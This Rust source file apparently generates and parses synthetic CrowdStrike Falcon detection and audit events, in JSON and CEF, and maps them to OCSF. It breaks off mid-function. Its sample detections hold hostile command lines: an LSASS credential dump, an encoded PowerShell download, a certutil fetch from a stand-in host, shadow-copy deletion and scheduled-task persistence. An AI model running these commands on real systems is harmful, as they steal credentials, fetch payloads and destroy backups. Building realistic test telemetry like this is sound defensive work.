//! CrowdStrike Falcon: Event Streams API (streaming API) events in JSON, and detections in
//! CEF as the Falcon SIEM Connector writes them.
//!
//! Format: streaming API events `{"metadata": {"customerIDString", "offset", "eventType",
//! "eventCreationTime", "version": "1.0"}, "event": {...}}` for DetectionSummaryEvent,
//! AuthActivityAuditEvent and UserActivityAuditEvent. The reader also maps the Endpoint,
//! Mobile and XDR detection summaries, identity protection, incident and lead summaries,
//! firewall matches and scheduled report notifications of the same stream, and the Threat
//! Graph vertices (device, user, user-session, module, process) that collectors fetch for a
//! detection. The CEF variant follows the SIEM Connector 2.x default mapping
//! (`CEF:0|CrowdStrike|FalconHost|1.0|DetectionSummaryEvent|...`).
//! Vendor documentation: <https://falcon.crowdstrike.com/documentation/page/62/streaming-api-event-dictionary>
//! (requires a Falcon login).

use std::cell::RefCell;

use serde_json::{Map, Value};

use super::json_support::{self, Alphabet};
use super::{Framing, GenContext, ParseOptions, ParseState, Parsed, Source, SourceMeta, Variant, WireFormat};
use crate::field_map::FieldMap;
use crate::decimal::push_u64;
use crate::error::ParseError;
use crate::fields::Fields;
use crate::format::{cef, json};
use crate::ocsf::{self, class, Node, Object, RecordBuilder};
use crate::timestamp::Timestamp;
use crate::world::{Host, User};

mod fdr;
mod vertex;

/// The `crowdstrike_falcon` source.
pub struct CrowdstrikeFalcon;

const VARIANTS: &[Variant] = &[
    Variant { name: "DetectionSummaryEvent", weight: 10, format: WireFormat::Json, description: "the sensor detected or prevented malicious activity on a host" },
    Variant { name: "AuthActivityAuditEvent", weight: 30, format: WireFormat::Json, description: "a console user signed in, or an API client started a stream" },
    Variant { name: "UserActivityAuditEvent", weight: 20, format: WireFormat::Json, description: "a console user changed a detection, group or policy" },
    Variant { name: "cef_detection", weight: 0, format: WireFormat::Cef, description: "a detection in CEF, as the SIEM Connector writes it" },
];

const DETECTION: usize = 0;
const AUTH_AUDIT: usize = 1;
const USER_AUDIT: usize = 2;
const CEF_DETECTION: usize = 3;

static META: SourceMeta = SourceMeta {
    id: "crowdstrike_falcon",
    aliases: &[],
    vendor: "CrowdStrike",
    product: "Falcon",
    category: "endpoint",
    formats: &[WireFormat::Json, WireFormat::Cef],
    sourcetype: "crowdstrike:falcon:event:streams",
    ocsf_classes: &[
        class::DETECTION_FINDING,
        class::AUTHENTICATION,
        class::API_ACTIVITY,
        class::NETWORK_ACTIVITY,
        class::PROCESS_ACTIVITY,
        class::DNS_ACTIVITY,
        5001,
        5003,
        5011,
        5015,
        WEB_RESOURCES_ACTIVITY,
    ],
    doc_url: "https://falcon.crowdstrike.com/documentation/page/62/streaming-api-event-dictionary",
    versions: "Event Streams API v2 (metadata version 1.0), SIEM Connector 2.x CEF",
    known_gaps: &[
        "a detection maps to one Detection Finding with the process as actor and evidence, and no separate Process Activity record is emitted",
        "Falcon Data Replicator events are read but not generated; only process, DNS, network and logon events have a class mapping, the others are Base Events",
        "Threat Graph vertices other than device, user, user-session, module and process vertices have no OCSF class and are rejected",
        "CEF is generated for detections only; audit events in CEF are read",
    ],
    variants: VARIANTS,
    framing: Framing::Lines,
    host_fields: &["event.ComputerName", "ComputerName"],
};

/// One kind of detection: name, description, tactic, technique, objective, severity (1 to 5),
/// file name, folder, command line, parent image, parent command line, disposition.
struct Detection {
    name: &'static str,
    description: &'static str,
    tactic: &'static str,
    technique: &'static str,
    objective: &'static str,
    severity: u8,
    file: &'static str,
    folder: &'static str,
    command: &'static str,
    parent: &'static str,
    parent_command: &'static str,
    disposition: &'static Disposition,
}

/// A pattern disposition: value, description and the flag it sets.
struct Disposition {
    value: i64,
    description: &'static str,
    flag: Option<&'static str>,
}

const DETECTED: Disposition = Disposition { value: 0, description: "Detection, standard detection.", flag: None };
const KILLED: Disposition = Disposition { value: 16, description: "Prevention, process killed.", flag: Some("KillProcess") };
const BLOCKED: Disposition = Disposition { value: 2048, description: "Prevention, process was blocked from execution.", flag: Some("ProcessBlocked") };

/// Flags of `PatternDispositionFlags` and their field names, in the order the stream writes
/// them.
const DISPOSITION_FLAGS: &[(&str, &str)] = &[
    ("Indicator", "event.PatternDispositionFlags.Indicator"),
    ("Detect", "event.PatternDispositionFlags.Detect"),
    ("InddetMask", "event.PatternDispositionFlags.InddetMask"),
    ("SensorOnly", "event.PatternDispositionFlags.SensorOnly"),
    ("Rooting", "event.PatternDispositionFlags.Rooting"),
    ("KillProcess", "event.PatternDispositionFlags.KillProcess"),
    ("KillSubProcess", "event.PatternDispositionFlags.KillSubProcess"),
    ("QuarantineMachine", "event.PatternDispositionFlags.QuarantineMachine"),
    ("QuarantineFile", "event.PatternDispositionFlags.QuarantineFile"),
    ("PolicyDisabled", "event.PatternDispositionFlags.PolicyDisabled"),
    ("KillParent", "event.PatternDispositionFlags.KillParent"),
    ("OperationBlocked", "event.PatternDispositionFlags.OperationBlocked"),
    ("ProcessBlocked", "event.PatternDispositionFlags.ProcessBlocked"),
];

const SYSTEM32: &str = "\\Device\\HarddiskVolume3\\Windows\\System32";
const DETECTIONS: &[Detection] = &[
    Detection {
        name: "Suspicious Activity",
        description: "A process read the memory of LSASS, which can expose credentials. Review the process tree.",
        tactic: "Credential Access",
        technique: "OS Credential Dumping",
        objective: "Gain Access",
        severity: 5,
        file: "rundll32.exe",
        folder: SYSTEM32,
        command: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\debug.bin full",
        parent: "cmd.exe",
        parent_command: "cmd.exe /c tasklist /fi \"imagename eq lsass.exe\"",
        disposition: &KILLED,
    },
    Detection {
        name: "Suspicious Activity",
        description: "PowerShell ran an encoded command that downloads and starts a remote payload.",
        tactic: "Execution",
        technique: "PowerShell",
        objective: "Follow Through",
        severity: 4,
        file: "powershell.exe",
        folder: "\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0",
        command: "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        parent: "WINWORD.EXE",
        parent_command: "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\Public\\Downloads\\Invoice_48213.docm\"",
        disposition: &BLOCKED,
    },
    Detection {
        name: "Malicious Document",
        description: "An Office application started a command shell, as macro-based droppers do.",
        tactic: "Execution",
        technique: "User Execution",
        objective: "Follow Through",
        severity: 4,
        file: "cmd.exe",
        folder: SYSTEM32,
        command: "cmd.exe /c certutil -urlcache -split -f http://update-service.example/a.dat %TEMP%\\a.exe",
        parent: "EXCEL.EXE",
        parent_command: "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" /dde",
        disposition: &DETECTED,
    },
    Detection {
        name: "Process Terminated",
        description: "A process tried to delete volume shadow copies, a step ransomware takes before encrypting files.",
        tactic: "Impact",
        technique: "Inhibit System Recovery",
        objective: "Keep Access",
        severity: 5,
        file: "vssadmin.exe",
        folder: SYSTEM32,
        command: "vssadmin.exe delete shadows /all /quiet",
        parent: "cmd.exe",
        parent_command: "cmd.exe /c vssadmin.exe delete shadows /all /quiet",
        disposition: &KILLED,
    },
    Detection {
        name: "Suspicious Activity",
        description: "A scheduled task was created to start a binary from a writable folder at every logon.",
        tactic: "Persistence",
        technique: "Scheduled Task/Job",
        objective: "Keep Access",
        severity: 3,
        file: "schtasks.exe",
        folder: SYSTEM32,
        command: "schtasks.exe /create /sc onlogon /tn \"OneDrive Sync Helper\" /tr C:\\ProgramData\\odsync.exe /rl highest /f",
        parent: "powershell.exe",
        parent_command: "powershell.exe -ExecutionPolicy Bypass -File C:\\ProgramData\\setup.ps1",
        disposition: &DETECTED,
    },
    Detection {
        name: "Machine Learning",
        description: "This file meets the on-sensor machine learning high-confidence threshold for malicious files.",
        tactic: "Machine Learning",
        technique: "Sensor-based ML",
        objective: "Falcon Detection Method",
        severity: 4,
        file: "AdobeUpdate_x64.exe",
        folder: "\\Device\\HarddiskVolume3\\Users\\Public\\Downloads",
        command: "\"C:\\Users\\Public\\Downloads\\AdobeUpdate_x64.exe\" /silent",
        parent: "explorer.exe",
        parent_command: "C:\\Windows\\Explorer.EXE",
        disposition: &BLOCKED,
    },
    Detection {
        name: "Suspicious Activity",
        description: "A remote service was created through an administrative share, as lateral movement tools do.",
        tactic: "Lateral Movement",
        technique: "Remote Services",
        objective: "Explore",
        severity: 3,
        file: "services.exe",
        folder: SYSTEM32,
        command: "C:\\Windows\\PSEXESVC.exe",
        parent: "wininit.exe",
        parent_command: "wininit.exe",
        disposition: &DETECTED,
    },
];

const SEVERITY_NAMES: [&str; 6] = ["Informational", "Informational", "Low", "Medium", "High", "Critical"];

/// Console and API operations of AuthActivityAuditEvent: operation, service, share of failures
/// in per mille.
const AUTH_OPERATIONS: &[(&str, &str, u32)] = &[
    ("userAuthenticate", "CrowdStrike Authentication", 60),
    ("twoFactorAuthenticate", "CrowdStrike Authentication", 30),
    ("saml2Assert", "CrowdStrike Authentication", 10),
    ("streamStarted", "Crowdstrike Streaming API", 0),
    ("requestResetPassword", "CrowdStrike Authentication", 0),
];
/// Console changes of UserActivityAuditEvent: operation, service, audit keys.
const USER_OPERATIONS: &[(&str, &str)] = &[
    ("detection_update", "detections"),
    ("update_group", "groups"),
    ("update_device_control_policy", "device control policies"),
    ("quarantined_file_update", "quarantined_files"),
    ("create_user", "users"),
];
const DETECTION_STATES: &[&str] = &["in_progress", "true_positive", "false_positive", "closed", "ignored"];

thread_local! {
    /// The organisation whose customer id was derived last on this thread, and that id. A
    /// stream of events names one organisation, and deriving the id hashes its name anew.
    static CUSTOMER_ID: RefCell<Option<(String, json_support::ShortId)>> = const { RefCell::new(None) };
}

/// Returns the Falcon customer id of `organisation`, 32 hex digits.
fn customer_id(organisation: &str) -> json_support::ShortId {
    CUSTOMER_ID.with_borrow_mut(|cache| match cache {
        Some((cached, id)) if cached == organisation => *id,
        _ => {
            let id = json_support::ShortId::stable("", Alphabet::Hex, 32, &[organisation, "falcon-cid"]);
            *cache = Some((organisation.to_string(), id));
            id
        }
    })
}

/// The entities one event names.
struct Subject<'w> {
    user: &'w User,
    host: &'w Host,
    organisation: &'w str,
    /// Customer id of the organisation, 32 hex digits.
    customer: json_support::ShortId,
}

impl Subject<'_> {
    /// Returns the Falcon agent id of the host, 32 hex digits. Only detections name it, so it
    /// is derived on demand.
    fn agent(&self) -> json_support::ShortId {
        json_support::ShortId::stable("", Alphabet::Hex, 32, &[self.organisation, &self.host.hostname])
    }
}

impl Source for CrowdstrikeFalcon {
    fn meta(&self) -> &'static SourceMeta {
        &META
    }

    fn fill(&self, ctx: &mut GenContext<'_>, fields: &mut Fields) {
        let world = ctx.world;
        let index = ctx.user(&["event.UserName"]);
        let subject = Subject {
            user: &world.users[index],
            host: world.workstation_of(index),
            organisation: &world.organisation,
            customer: customer_id(&world.organisation),
        };
        if ctx.variant == CEF_DETECTION {
            fill_cef_detection(ctx, fields, &subject);
            return;
        }

        fields.str("metadata.customerIDString", subject.customer.as_str());
        // The stream offset grows with every event of the customer's stream.
        fields.int("metadata.offset", 4_100_000 + ctx.index as i64 * 3);
        fields.str("metadata.eventType", VARIANTS[ctx.variant].name);
        fields.int("metadata.eventCreationTime", ctx.time.millis());
        fields.str("metadata.version", "1.0");
        match ctx.variant {
            DETECTION => fill_detection(ctx, fields, &subject),
            AUTH_AUDIT => fill_auth_audit(ctx, fields),
            USER_AUDIT => fill_user_audit(ctx, fields),
            _ => {}
        }
    }

    fn write(&self, variant: usize, fields: &Fields, out: &mut String) {
        if variant != CEF_DETECTION {
            // Field names are string literals of `fill`, which need no escaping. A unit test
            // checks every name that `fill` writes.
            json::write_fields_with_plain_names(fields, out);
            return;
        }
        out.push_str("CEF:0|CrowdStrike|FalconHost|1.0|DetectionSummaryEvent|");
        cef::write_header_value(out, fields.get("name").unwrap_or(""));
        out.push('|');
        cef::write_header_value(out, fields.get("severity").unwrap_or(""));
        out.push('|');
        let mut first = true;
        for (name, _, value) in fields.iter().filter(|(name, _, _)| !matches!(*name, "name" | "severity")) {
            if !first {
                out.push(' ');
            }
            first = false;
            out.push_str(name);
            out.push('=');
            cef::write_extension_value(out, value);
        }
    }

    fn parse_line(&self, line: &str, state: &mut ParseState) -> Result<Option<Parsed>, ParseError> {
        if cef::find_start(line).is_some() {
            return read_cef(line).map(Some);
        }
        json_support::parse_line_json(self, line, state)
    }

    fn parse_json(&self, value: &Value, state: &mut ParseState) -> Result<Option<Parsed>, ParseError> {
        // A collector may keep the connector's CEF line in a message field.
        if let Some(text) = value.get("message").and_then(Value::as_str).filter(|t| cef::find_start(t).is_some()) {
            return self.parse_line(text, state);
        }
        // Falcon Data Replicator events are flat and named by event_simpleName.
        if value.get("event_simpleName").is_some_and(Value::is_string) && value.get("metadata").is_none() {
            return Ok(Some(json_support::flattened(value, None)));
        }
        let event_type = value.pointer("/metadata/eventType").and_then(Value::as_str);
        let (Some(event_type), Some(true)) = (event_type, value.get("event").map(Value::is_object)) else {
            return Err(ParseError::new(0, "not a Falcon streaming event: metadata.eventType or the event object is missing"));
        };
        let variant = VARIANTS[..CEF_DETECTION].iter().find(|v| v.name == event_type).map(|v| v.name);
        Ok(Some(json_support::flattened(value, variant)))
    }

    fn to_ocsf(&self, parsed: &Parsed, options: &ParseOptions) -> Result<Object, ParseError> {
        if parsed.variant == Some(VARIANTS[CEF_DETECTION].name) || parsed.fields.contains_key("deviceEventClassId") {
            return to_ocsf_cef(&parsed.fields, options);
        }
        let fields = &parsed.fields;
        if fields.contains_key("event_simpleName") && !fields.contains_key("metadata.eventType") {
            return fdr::record(fields);
        }
        let event_type = json_support::text(fields, "metadata.eventType").unwrap_or("");
        if event_type == "Vertex" {
            return vertex::record(fields);
        }
        let time = event_time(fields)?;
        match event_type {
            "AuthActivityAuditEvent" => Ok(audit_record(fields, time, true)),
            "UserActivityAuditEvent" | "APIActivityAuditEvent" => Ok(audit_record(fields, time, false)),
            "RemoteResponseSessionStartEvent" | "RemoteResponseSessionEndEvent" => Ok(remote_response_record(fields, time)),
            t if t.ends_with("DetectionSummaryEvent")
                || matches!(t, "IdentityProtectionEvent" | "IncidentSummaryEvent" | "AutomatedLeadSummaryEvent" | "ReconNotificationSummaryEvent") =>
            {
                Ok(detection_record(fields, time))
            }
            "ScheduledReportNotificationEvent" => Ok(report_record(fields, time)),
            "FirewallMatchEvent" => Ok(firewall_record(fields, time)),
            _ => Ok(stream_base_event(fields, time)),
        }
    }
}

/// Appends the detection id number of a detection, stable for its agent and time.
fn detection_number(agent: &str, time: Timestamp) -> u64 {
    let seed = crate::seed::fnv1a(agent.as_bytes()) ^ time.0 as u64;
    40_000_000_000 + crate::seed::splitmix64(seed) % 9_000_000_000
}

/// Appends the console link of a detection, as the Falcon SIEM Connector writes it.
fn write_host_link(out: &mut String, agent: &str, number: u64, customer: &str) {
    out.push_str("https://falcon.crowdstrike.com/activity/detections/detail/");
    out.push_str(agent);
    out.push('/');
    push_u64(out, number);
    out.push_str("?_cid=");
    out.push_str(customer);
}

fn fill_detection(ctx: &mut GenContext<'_>, fields: &mut Fields, subject: &Subject<'_>) {
    let detection = ctx.rng.pick(DETECTIONS);
    let world = ctx.world;
    let start = ctx.time.secs() - ctx.rng.range(5, 300) as i64;
    let killed = detection.disposition.value == KILLED.value;
    let process_id = ctx.rng.range(10_000_000_000, 900_000_000_000) as i64;
    let agent = subject.agent();
    let (agent, customer) = (agent.as_str(), subject.customer.as_str());
    let number = detection_number(agent, ctx.time);

    fields.int("event.ProcessStartTime", start);
    fields.int("event.ProcessEndTime", if killed { ctx.time.secs() } else { 0 });
    fields.int("event.ProcessId", process_id);
    fields.int("event.ParentProcessId", process_id - ctx.rng.range(1_000, 5_000_000) as i64);
    fields.str("event.ComputerName", &subject.host.hostname);
    fields.str("event.UserName", &subject.user.username);
    fields.str("event.DetectName", detection.name);
    fields.str("event.DetectDescription", detection.description);
    fields.int("event.Severity", i64::from(detection.severity));
    fields.str("event.SeverityName", SEVERITY_NAMES[usize::from(detection.severity)]);
    fields.str("event.FileName", detection.file);
    fields.str("event.FilePath", detection.folder);
    fields.str("event.CommandLine", detection.command);
    fields.with("event.SHA256String", |out| json_support::write_random(out, &mut ctx.rng, Alphabet::Hex, 64));
    fields.with("event.MD5String", |out| json_support::write_random(out, &mut ctx.rng, Alphabet::Hex, 32));
    fields.with("event.SHA1String", |out| json_support::write_random(out, &mut ctx.rng, Alphabet::Hex, 40));
    fields.str("event.MachineDomain", &world.netbios_domain);
    fields.with("event.FalconHostLink", |out| write_host_link(out, agent, number, customer));
    fields.str("event.SensorId", agent);
    fields.with("event.DetectId", |out| {
        out.push_str("ldt:");
        out.push_str(agent);
        out.push(':');
        push_u64(out, number);
    });
    fields.ipv4("event.LocalIP", subject.host.ip);
    fields.with("event.MACAddress", |out| out.extend(subject.host.mac.chars().map(|c| if c == ':' { '-' } else { c })));
    fields.str("event.Tactic", detection.tactic);
    fields.str("event.Technique", detection.technique);
    fields.str("event.Objective", detection.objective);
    fields.str("event.PatternDispositionDescription", detection.disposition.description);
    fields.int("event.PatternDispositionValue", detection.disposition.value);
    for (flag, name) in DISPOSITION_FLAGS {
        fields.bool(name, detection.disposition.flag == Some(*flag));
    }
    fields.str("event.ParentImageFileName", detection.parent);
    fields.str("event.ParentCommandLine", detection.parent_command);
    fields.str("event.GrandparentImageFileName", "explorer.exe");
    fields.str("event.GrandparentCommandLine", "C:\\Windows\\Explorer.EXE");
}

fn fill_auth_audit(ctx: &mut GenContext<'_>, fields: &mut Fields) {
    let world = ctx.world;
    let (operation, service, failure) = *ctx.rng.pick(AUTH_OPERATIONS);
    let success = !ctx.rng.chance(failure);
    let stream = operation == "streamStarted";
    let admin = world.users.iter().filter(|u| u.admin).nth(ctx.rng.index(8)).unwrap_or(&world.users[0]);

    // The API client of the SIEM connector, named twice by a stream start.
    let client = stream.then(|| json_support::ShortId::stable("", Alphabet::Hex, 32, &[&world.organisation, "siem-connector"]));
    if let Some(client) = &client {
        fields.str("event.UserId", client.as_str());
    } else {
        fields.str("event.UserId", &admin.email);
    }
    let address = if success || !ctx.rng.chance(500) { ctx.rng.pick(&world.nat_addresses) } else { ctx.rng.pick(&world.external_addresses) };
    fields.ipv4("event.UserIp", *address);
    fields.str("event.OperationName", operation);
    fields.str("event.ServiceName", service);
    fields.bool("event.Success", success);
    fields.int("event.UTCTimestamp", ctx.time.secs());

    let email = admin.email.as_str();
    let organisation = world.organisation.as_str();
    fields.json_with("event.AuditKeyValues", |out| match operation {
        "streamStarted" => {
            out.push_str("[{\"Key\":\"APIClientID\",\"ValueString\":\"");
            out.push_str(client.as_ref().map_or("", json_support::ShortId::as_str));
            out.push_str("\"},{\"Key\":\"partition\",\"ValueString\":\"0\"},{\"Key\":\"offset\",\"ValueString\":\"-1\"},{\"Key\":\"appId\",\"ValueString\":\"");
            out.push_str(organisation);
            out.push_str("-siem\"},{\"Key\":\"eventType\",\"ValueString\":\"All event type(s)\"}]");
        }
        _ => {
            out.push_str("[{\"Key\":\"target_name\",\"ValueString\":\"");
            out.push_str(email);
            out.push_str("\"}]");
        }
    });
}

fn fill_user_audit(ctx: &mut GenContext<'_>, fields: &mut Fields) {
    let world = ctx.world;
    let (operation, service) = *ctx.rng.pick(USER_OPERATIONS);
    let admin = world.users.iter().filter(|u| u.admin).nth(ctx.rng.index(8)).unwrap_or(&world.users[0]);
    let target_index = ctx.rng.index(world.users.len());
    let target_host = world.workstation_of(target_index);
    let agent = json_support::ShortId::stable("", Alphabet::Hex, 32, &[&world.organisation, &target_host.hostname]);
    let state = ctx.rng.pick_str(DETECTION_STATES);
    let number = 40_000_000_000 + ctx.rng.below(9_000_000_000);
    fields.str("event.UserId", &admin.email);
    fields.ipv4("event.UserIp", *ctx.rng.pick(&world.nat_addresses));
    fields.str("event.OperationName", operation);
    fields.str("event.ServiceName", service);
    fields.int("event.UTCTimestamp", ctx.time.secs());
    let email = admin.email.as_str();
    let name = admin.display_name.as_str();
    fields.json_with("event.AuditKeyValues", |out| match operation {
        "detection_update" => {
            out.push_str("[{\"Key\":\"detection_id\",\"ValueString\":\"ldt:");
            out.push_str(agent.as_str());
            out.push(':');
            push_u64(out, number);
            out.push_str("\"},{\"Key\":\"new_state\",\"ValueString\":\"");
            out.push_str(state);
            out.push_str("\"},{\"Key\":\"assigned_to\",\"ValueString\":\"");
            out.push_str(name);
            out.push_str("\"},{\"Key\":\"assigned_to_uid\",\"ValueString\":\"");
            out.push_str(email);
            out.push_str("\"}]");
        }
        "update_group" => {
            out.push_str("[{\"Key\":\"group_name\",\"ValueString\":\"Workstations - Pilot\"},{\"Key\":\"added_device\",\"ValueString\":\"");
            out.push_str(agent.as_str());
            out.push_str("\"}]");
        }
        "update_device_control_policy" => out.push_str(
            "[{\"Key\":\"policy_name\",\"ValueString\":\"Block USB mass storage\"},{\"Key\":\"enabled\",\"ValueString\":\"true\"}]",
        ),
        "quarantined_file_update" => {
            out.push_str("[{\"Key\":\"quarantined_file_id\",\"ValueString\":\"");
            out.push_str(agent.as_str());
            out.push('_');
            push_u64(out, number);
            out.push_str("\"},{\"Key\":\"action_taken\",\"ValueString\":\"release\"}]");
        }
        _ => {
            out.push_str("[{\"Key\":\"target_name\",\"ValueString\":\"");
            out.push_str(&world.users[target_index].email);
            out.push_str("\"},{\"Key\":\"roles\",\"ValueString\":\"falcon_analyst\"}]");
        }
    });
}

/// Writes a detection in the SIEM Connector's CEF layout: header name and severity, then the
/// extension keys in the connector's order.
fn fill_cef_detection(ctx: &mut GenContext<'_>, fields: &mut Fields, subject: &Subject<'_>) {
    let detection = ctx.rng.pick(DETECTIONS);
    let process_id = ctx.rng.range(10_000_000_000, 900_000_000_000) as i64;
    let agent = subject.agent();
    let (agent, customer) = (agent.as_str(), subject.customer.as_str());
    let number = detection_number(agent, ctx.time);

    fields.str("name", detection.name);
    fields.int("severity", i64::from(detection.severity));
    fields.str("externalID", agent);
    fields.str("cn2Label", "ProcessId");
    fields.int("cn2", process_id);
    fields.str("cn1Label", "ParentProcessId");
    fields.int("cn1", process_id - ctx.rng.range(1_000, 5_000_000) as i64);
    fields.str("shost", &subject.host.hostname);
    fields.str("suser", &subject.user.username);
    fields.str("msg", detection.description);
    fields.str("fname", detection.file);
    fields.str("filePath", detection.folder);
    fields.str("cs5Label", "CommandLine");
    fields.str("cs5", detection.command);

    fields.with("fileHash", |out| json_support::write_random(out, &mut ctx.rng, Alphabet::Hex, 64));
    fields.str("sntdom", &ctx.world.netbios_domain);
    fields.str("cs6Label", "FalconHostLink");
    fields.with("cs6", |out| write_host_link(out, agent, number, customer));
    fields.str("cn3Label", "Offset");
    fields.int("cn3", 4_100_000 + ctx.index as i64 * 3);
    fields.int("rt", ctx.time.millis());

    fields.ipv4("src", subject.host.ip);
    fields.with("smac", |out| out.extend(subject.host.mac.chars().map(|c| if c == ':' { '-' } else { c })));
    fields.str("cat", detection.tactic);
    fields.str("act", detection.technique);
    fields.str("reason", detection.objective);
    fields.int("outcome", detection.disposition.value);
    fields.str("CSMTRPatternDisposition", detection.disposition.description);
}

/// Extension keys whose values are integers in the connector's output.
const CEF_INTEGERS: &[&str] = &["severity", "cn1", "cn2", "cn3", "rt", "outcome"];

/// Reads a SIEM Connector CEF line into fields named by its keys, plus `deviceEventClassId`
/// for event types other than detections.
fn read_cef(line: &str) -> Result<Parsed, ParseError> {
    let event = cef::parse(line)?;
    if !event.device_vendor.eq_ignore_ascii_case("CrowdStrike") {
        return Err(ParseError::new(event.prefix_offset, format!("CEF from '{}', not CrowdStrike", event.device_vendor)));
    }
    let mut fields = FieldMap::new();
    let mut put = |name: &str, value: &str| {
        let typed = match value.parse::<i64>() {
            Ok(number) if CEF_INTEGERS.contains(&name) && !value.starts_with('+') => Value::from(number),
            _ => Value::String(value.to_string()),
        };
        fields.insert(name.to_string(), typed);
    };
    let class_id = event.device_event_class_id.to_string();
    put("name", &event.name);
    put("severity", &event.severity);
    for (key, value) in &event.extension {
        put(key, value);
    }
    let variant = if class_id == "DetectionSummaryEvent" {
        Some(VARIANTS[CEF_DETECTION].name)
    } else {
        fields.insert("deviceEventClassId", Value::String(class_id));
        None
    };
    Ok(Parsed { variant, fields })
}

/// Reads the time of a streaming event: `eventCreationTime` (milliseconds, or seconds in some
/// connector versions), else the event's own timestamps.
fn event_time(fields: &FieldMap) -> Result<Timestamp, ParseError> {
    ["metadata.eventCreationTime", "event.UTCTimestamp", "event.ProcessStartTime", "event.ContextTimeStamp", "event.StartTime", "event.IncidentStartTime"]
        .iter()
        .find_map(|name| json_support::epoch_time(fields, name))
        .ok_or_else(|| ParseError::new(0, "the event has no eventCreationTime or other time"))
}

/// Maps a streaming event type without a class mapping (such as a future or rare type) to
/// the Base Event class, with the event's fields under `unmapped` and its user as actor.
fn stream_base_event(fields: &FieldMap, time: Timestamp) -> Object {
    let mut record = RecordBuilder::new(class::BASE_EVENT, 99, time, &META);
    record.set_str("metadata.event_code", json_support::text(fields, "metadata.eventType"));
    record.set_str("metadata.tenant_uid", json_support::text(fields, "metadata.customerIDString"));
    let mut unmapped = Object::new();
    for (name, value) in fields {
        if let Some(item) = name.strip_prefix("event.") {
            unmapped.insert(item.to_string(), value.clone());
        }
    }
    if !unmapped.is_empty() {
        record.set("unmapped", unmapped);
    }
    if let Some(user) = json_support::first_text(fields, &["event.UserName", "event.UserId"]).filter(|u| !u.is_empty()) {
        record.set("actor.user.name", user);
    }
    // Host events such as CustomerIOCEvent name the sensor's host.
    let hostname = json_support::first_text(fields, &["event.ComputerName", "event.Hostname", "event.HostnameField", "event.HostName"]);
    let agent = json_support::first_text(fields, &["event.AgentIdString", "event.AgentId", "event.DeviceId", "event.SensorId"]);
    if hostname.is_some() || agent.is_some() {
        record.set("device.type_id", 0);
        record.set_str("device.hostname", hostname);
        record.set_str("device.uid", agent);
    }
    record.set_str("message", json_support::first_text(fields, &["event.Description", "event.OperationName"]));
    record.build()
}

/// Maps a Falcon severity to `severity_id`: the 1 to 5 scale of DetectionSummaryEvent, or the
/// 0 to 100 scale of the newer summaries.
fn severity_id(fields: &FieldMap) -> u32 {
    let name = json_support::text(fields, "event.SeverityName").unwrap_or("").to_ascii_lowercase();
    match name.as_str() {
        "informational" | "info" => return ocsf::severity::INFORMATIONAL,
        "low" => return ocsf::severity::LOW,
        "medium" => return ocsf::severity::MEDIUM,
        "high" => return ocsf::severity::HIGH,
        "critical" => return ocsf::severity::CRITICAL,
        _ => {}
    }
    match json_support::integer(fields, "event.Severity") {
        Some(s @ 1..=5) if json_support::text(fields, "metadata.eventType") == Some("DetectionSummaryEvent") => s as u32,
        Some(s) if s < 20 => ocsf::severity::INFORMATIONAL,
        Some(s) if s < 40 => ocsf::severity::LOW,
        Some(s) if s < 60 => ocsf::severity::MEDIUM,
        Some(s) if s < 80 => ocsf::severity::HIGH,
        Some(_) => ocsf::severity::CRITICAL,
        None => ocsf::severity::UNKNOWN,
    }
}

/// Joins a Falcon `FilePath` (which may or may not end with the file name) and `FileName`.
fn full_path(folder: &str, file: &str) -> String {
    if folder.ends_with(file) {
        folder.to_string()
    } else if folder.contains('/') {
        format!("{}/{file}", folder.trim_end_matches('/'))
    } else {
        format!("{}\\{file}", folder.trim_end_matches('\\'))
    }
}

fn detection_record(fields: &FieldMap, time: Timestamp) -> Object {
    let text = |name: &str| json_support::text(fields, &format!("event.{name}"));
    let mut record = RecordBuilder::new(class::DETECTION_FINDING, 1, time, &META);
    record.set_str("metadata.event_code", json_support::text(fields, "metadata.eventType"));
    record.set_str("metadata.tenant_uid", json_support::text(fields, "metadata.customerIDString"));
    let uid = ["DetectId", "CompositeId", "IdentityProtectionIncidentId", "IncidentID", "LeadId", "MobileDetectionId"]
        .iter()
        .find_map(|name| text(name).map(str::to_string).or_else(|| json_support::integer(fields, &format!("event.{name}")).map(|n| n.to_string())))
        .unwrap_or_else(|| "unknown".to_string());
    record.set_str("metadata.uid", Some(uid.as_str()));
    record.set("finding_info.uid", uid.as_str());
    let title = ["DetectName", "Name", "IncidentType", "IncidentDescription"].iter().find_map(|name| text(name)).map(str::to_string);
    let title = title.unwrap_or_else(|| json_support::text(fields, "metadata.eventType").unwrap_or("Falcon detection").to_string());
    record.set("finding_info.title", title.as_str());
    record.set_str("finding_info.desc", text("DetectDescription").or_else(|| text("Description")).or_else(|| text("IncidentDescription")));
    record.set_str("finding_info.src_url", text("FalconHostLink"));
    if let Some(objective) = text("Objective") {
        record.set("finding_info.types", vec![Value::from(objective)]);
    }
    let attacks = attacks(fields);
    if !attacks.is_empty() {
        record.set("finding_info.attacks", attacks);
    }
    record.severity(severity_id(fields));
    record.set("is_alert", true);
    record.status(1).set("status", "New");

    let disposition = json_support::integer(fields, "event.PatternDispositionValue");
    let blocked = json_support::boolean(fields, "event.PatternDispositionFlags.ProcessBlocked") == Some(true)
        || json_support::boolean(fields, "event.PatternDispositionFlags.KillProcess") == Some(true)
        || json_support::boolean(fields, "event.PatternDispositionFlags.OperationBlocked") == Some(true);
    let quarantined = json_support::boolean(fields, "event.PatternDispositionFlags.QuarantineFile") == Some(true);
    if quarantined {
        record.set("disposition_id", 3).set("disposition", "Quarantined").set("action_id", 2).set("action", "Denied");
    } else if blocked || disposition.is_some_and(|d| d & (16 | 2048) != 0) {
        record.set("disposition_id", 2).set("disposition", "Blocked").set("action_id", 2).set("action", "Denied");
    } else if disposition.is_some() {
        record.set("disposition_id", 1).set("disposition", "Allowed").set("action_id", 3).set("action", "Observed");
    }
    record.set_str("status_detail", text("PatternDispositionDescription"));

    if let Some(host) = text("ComputerName").or_else(|| text("Hostname")).or_else(|| text("EndpointName")) {
